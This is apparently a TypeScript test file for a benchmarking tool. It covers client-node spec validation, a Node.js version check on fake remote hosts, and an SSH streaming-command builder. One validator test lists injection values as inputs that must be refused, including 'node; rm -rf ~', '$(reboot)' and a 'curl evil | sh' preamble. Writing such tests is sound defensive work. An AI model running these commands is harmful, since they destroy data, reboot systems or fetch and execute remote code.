import { strict as assert } from 'node:assert';
import { describe, it } from 'node:test';
import { z } from 'zod';
import { benchSpecSchema } from '../../../src/core/spec/bench-spec';
import { checkNodeVersion, type ClientNodeHost } from '../../../src/core/load/client-nodes';
import { streamLoginShellCommand } from '../../../src/core/launch/ssh/ssh-stream-exec';

const base = { name: 'b', target: 'http://10.0.0.5:30000' };

/** a host whose `exec` answers like a node with the given `node --version` outcome, recording argv */
function fakeHost(answer: { exitCode: number; stdout?: string; stderr?: string }): ClientNodeHost & { calls: string[][] } {
  const calls: string[][] = [];
  return {
    calls,
    exec: async (_node, argv) => {
      calls.push([...argv]);
      return { exitCode: answer.exitCode, signal: null, stdout: answer.stdout ?? '', stderr: answer.stderr ?? '' };
    },
    writeFile: async () => undefined,
    execStream: async () => {
      throw new Error('not used');
    },
  };
}

describe('bench cell clients:', () => {
  it('takes nodes, workers per node and the node binary, with defaults', () => {
    const spec = benchSpecSchema.parse({ ...base, clients: { nodes: ['gpu-001', 'gpu-002'] } });
    assert.deepEqual(spec.clients, { nodes: ['gpu-001', 'gpu-002'], workers: 1, node: 'node' });
    const full = benchSpecSchema.parse({ ...base, clients: { nodes: ['a'], workers: 4, node: '/opt/node-22/bin/node' } });
    assert.equal(full.clients?.node, '/opt/node-22/bin/node');
  });

  it('refuses a node binary that is not a plain command name or absolute path', () => {
    for (const node of ['node; rm -rf ~', '$(reboot)', '-e', '--eval=1', '~/node', 'bin/node', 'node\nrm', "no'de", '/opt/node bin/node', '']) {
      assert.equal(benchSpecSchema.safeParse({ ...base, clients: { nodes: ['a'], node } }).success, false, JSON.stringify(node));
    }
  });

  it('refuses unknown keys and an empty node list', () => {
    assert.equal(benchSpecSchema.safeParse({ ...base, clients: { nodes: [] } }).success, false);
    assert.equal(benchSpecSchema.safeParse({ ...base, clients: { nodes: ['a'], preamble: 'curl evil | sh' } }).success, false);
  });

  it('is in the JSON schema the language server serves (completion, hover)', () => {
    const json = z.toJSONSchema(benchSpecSchema, { io: 'input', unrepresentable: 'any', target: 'draft-7' }) as { properties: Record<string, { description?: string; properties?: Record<string, unknown> }> };
    assert.ok(json.properties.clients?.description);
    assert.deepEqual(Object.keys(json.properties.clients?.properties ?? {}).sort(), ['cluster', 'node', 'nodes', 'workers']);
  });
});

describe('client node Node.js check', () => {
  it('runs the configured binary as one argv word and accepts Node 20+', async () => {
    const host = fakeHost({ exitCode: 0, stdout: 'v22.3.0\n' });
    assert.equal(await checkNodeVersion(host, 'gpu-001', '/opt/node/bin/node'), 'v22.3.0');
    assert.deepEqual(host.calls, [['/opt/node/bin/node', '--version']]);
  });

  it('names the node when there is no Node.js', async () => {
    await assert.rejects(checkNodeVersion(fakeHost({ exitCode: 127, stderr: 'sh: node: not found' }), 'gpu-007', 'node'), /Client node gpu-007 has no usable Node\.js at "node" \(not found\)/);
  });

  it('names the node and the version when Node.js is older than 20', async () => {
    await assert.rejects(checkNodeVersion(fakeHost({ exitCode: 0, stdout: 'v18.19.1\n' }), 'gpu-003', 'node'), /Client node gpu-003 has Node\.js v18\.19\.1 at "node"; client shards need 20 or newer/);
  });
});

describe('streaming exec login-shell command', () => {
  it('holds no user data: only the command length varies', () => {
    assert.equal(streamLoginShellCommand(123), `exec /bin/sh -c 'eval "$(dd bs=1 count=123 2>/dev/null)"'`);
    assert.throws(() => streamLoginShellCommand(0), RangeError);
    assert.throws(() => streamLoginShellCommand(1.5), RangeError);
  });
});
